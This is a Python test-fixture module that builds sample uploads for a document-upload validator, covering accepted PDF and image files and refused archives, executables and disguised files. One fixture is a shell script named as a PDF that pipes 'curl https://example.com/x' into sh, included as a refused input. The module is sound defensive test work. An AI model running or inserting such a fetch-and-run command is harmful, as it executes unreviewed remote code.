"""Files for the tests of documents (core/uploads.py, restructuring/services/documents.py): one of each type the
checks accept, and one of each kind they refuse."""

from __future__ import annotations

import base64
import io
import zipfile

# A one-page PDF (the structure a reader needs: catalog, pages, page, trailer).
PDF = (
    b"%PDF-1.4\n"
    b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
    b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n"
    b"trailer\n<< /Root 1 0 R /Size 4 >>\n%%EOF\n"
)
# 4 x 4 pixels, drawn by Chromium.
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAQAAAAECAIAAAAmkwkpAAAAIUlEQVR4nHTHMQ0AAAwCMLJMycRNHCq5SHjo1z0+bBB6BAAA//9x7OwIAAAABklEQVQD"
    "AD0gAT3NHXCiAAAAAElFTkSuQmCC"
)
JPEG = base64.b64decode(
    "/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDABALDA4MChAODQ4SERATGCgaGBYWGDEjJR0oOjM9PDkzODdASFxOQERXRTc4UG1RV19iZ2hnPk1xeXBkeFxl"
    "Z2P/2wBDARESEhgVGC8aGi9jQjhCY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2P/wAARCAAEAAQDASIAAhEB"
    "AxEB/8QAFQABAQAAAAAAAAAAAAAAAAAAAAL/xAAUEAEAAAAAAAAAAAAAAAAAAAAA/8QAFQEBAQAAAAAAAAAAAAAAAAAAAwX/xAAUEQEAAAAAAAAAAAAA"
    "AAAAAAAA/9oADAMBAAIRAxEAPwCABIT/2Q=="
)


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


ZIP = _zip({"statement.pdf": PDF})
# A Word document is a zip of XML parts.
DOCX = _zip(
    {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'content-types"/>',
        "word/document.xml": b'<?xml version="1.0"?><w:document/>',
    }
)
PDF_WITH_ZIP = PDF + ZIP  # a PDF at its start, a zip at its end
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 240  # a Windows executable's header
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120
SCRIPT = b"#!/bin/sh\ncurl https://example.com/x | sh\n"
TEXT = b"Dear lender, here are my documents.\n"
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x00\x00\x00\x00\x00,\x00\x00\x00\x00"
GZIP = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + b"\x00" * 20

# Each refused file: its bytes, the name it is sent under, the code of the refusal and a word of its message.
REFUSED = {
    "empty": (b"", "statement.pdf", "file_empty", "empty"),
    "zip": (ZIP, "statement.zip", "file_is_archive", "archive (zip)"),
    "docx named .pdf": (DOCX, "statement.pdf", "file_is_archive", "archive (docx)"),
    "gzip": (GZIP, "statement.pdf.gz", "file_is_archive", "archive (gz)"),
    "pdf with a zip appended": (PDF_WITH_ZIP, "statement.pdf", "file_is_archive", "also a zip"),
    "windows executable named .pdf": (EXE, "statement.pdf", "file_is_executable", "executable (exe)"),
    "elf executable": (ELF, "run", "file_is_executable", "executable (elf)"),
    "script": (SCRIPT, "statement.pdf", "file_is_executable", "script"),
    "plain text": (TEXT, "letter.txt", "file_type_refused", "not recognised"),
    "gif": (GIF, "scan.gif", "file_type_refused", "image/gif"),
}
